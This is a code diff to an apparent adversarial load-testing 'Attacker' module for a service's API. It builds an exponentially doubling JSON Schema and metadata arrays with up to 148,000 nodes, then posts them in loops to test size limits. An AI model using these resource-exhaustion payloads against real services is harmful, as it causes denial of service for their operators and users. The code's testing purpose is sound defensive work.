@@ -22,8 +22,8 @@ const PAUSE: Duration = Duration::from_millis(20);
 const NODES: usize = 1_198_372;
 /// WebSockets of each key.
 const SOCKETS: usize = 200;
-/// Definitions of the schema that doubles.
-const DEFINITIONS: usize = 21;
+/// Definitions of the schemas that double: one that is refused now, and the largest that is taken.
+const DEFINITIONS: [usize; 2] = [21, 8];
 
 /// What the attacker does.
 #[derive(Debug, Args)]
@@ -178,21 +178,16 @@ impl Attacker {
     }
 
     fn schema(&self) -> Outcome<Tasks> {
-        let mut definitions = serde_json::Map::new();
-        for number in 0..DEFINITIONS {
-            let next = json!({ "$ref": format!("#/definitions/a{}", number + 1) });
-            definitions.insert(format!("a{number}"), json!({ "anyOf": [next, next] }));
-        }
-        definitions.insert(format!("a{DEFINITIONS}"), json!({ "type": "string" }));
-        let schema = json!({ "$ref": "#/definitions/a0", "definitions": definitions });
-        let body = json!({ "prompt": "go", "structured_output_schema": schema }).to_string();
+        let bodies = DEFINITIONS.map(|definitions| {
+            json!({ "prompt": "go", "structured_output_schema": doubling(definitions) }).to_string()
+        });
         let (mut member, worker) = (self.client("member")?, self.key("worker")?.to_owned());
         let (target, tally) = (self.target.clone(), self.tally.clone());
         let mut tasks = Tasks::new();
         tasks.spawn(async move {
-            loop {
+            for body in bodies.iter().cycle() {
                 let path = "/v3/organizations/sessions";
-                if tally.call(&mut member, "POST", path, Some(&body)).await.is_some() {
+                if tally.call(&mut member, "POST", path, Some(body)).await.is_some() {
                     let _ = report(&target, &worker, &tally).await;
                 }
             }
@@ -206,11 +201,16 @@ impl Attacker {
         let made = self.tally.call(&mut member, "POST", "/v1/sessions", Some("{}")).await;
         let made: Value = serde_json::from_slice(&made.ok_or("a session could not be made")?)?;
         let path = format!("/v1/sessions/{}/messages", made["id"].as_str().unwrap_or_default());
-        let nodes = vec![r#"{"":0}"#; 148_000].join(",");
-        let message = r#"{"role":"user","content":[{"type":"text","text":"x"}]}"#;
-        let body = format!(r#"{{"message":{message},"metadata":{{"a":[{nodes}]}}}}"#);
-        for _ in 0..12 {
-            self.tally.call(&mut member, "POST", &path, Some(&body)).await;
+        // The first are refused now, since they have too many nodes; the others are the largest that are taken.
+        for (nodes, node) in
+            [(148_000, r#"{"":0}"#.to_owned()), (6_600, format!(r#"{{"":"{}"}}"#, "x".repeat(145)))]
+        {
+            let nodes = vec![node; nodes].join(",");
+            let message = r#"{"role":"user","content":[{"type":"text","text":"x"}]}"#;
+            let body = format!(r#"{{"message":{message},"metadata":{{"a":[{nodes}]}}}}"#);
+            for _ in 0..12 {
+                self.tally.call(&mut member, "POST", &path, Some(&body)).await;
+            }
         }
         let mut tasks = Tasks::new();
         for _ in 0..4 {
@@ -223,6 +223,17 @@ impl Attacker {
         }
         Ok(tasks)
     }
+}
+
+/// A JSON Schema with twice as many parts for each of its definitions.
+fn doubling(definitions: usize) -> Value {
+    let mut all = serde_json::Map::new();
+    for number in 0..definitions {
+        let next = json!({ "$ref": format!("#/definitions/a{}", number + 1) });
+        all.insert(format!("a{number}"), json!({ "anyOf": [next, next] }));
+    }
+    all.insert(format!("a{definitions}"), json!({ "type": "string" }));
+    json!({ "$ref": "#/definitions/a0", "definitions": all })
 }
 
 async fn socket(target: &Target, key: Option<&str>) -> Outcome<WebSocketStream<super::client::Line>> {
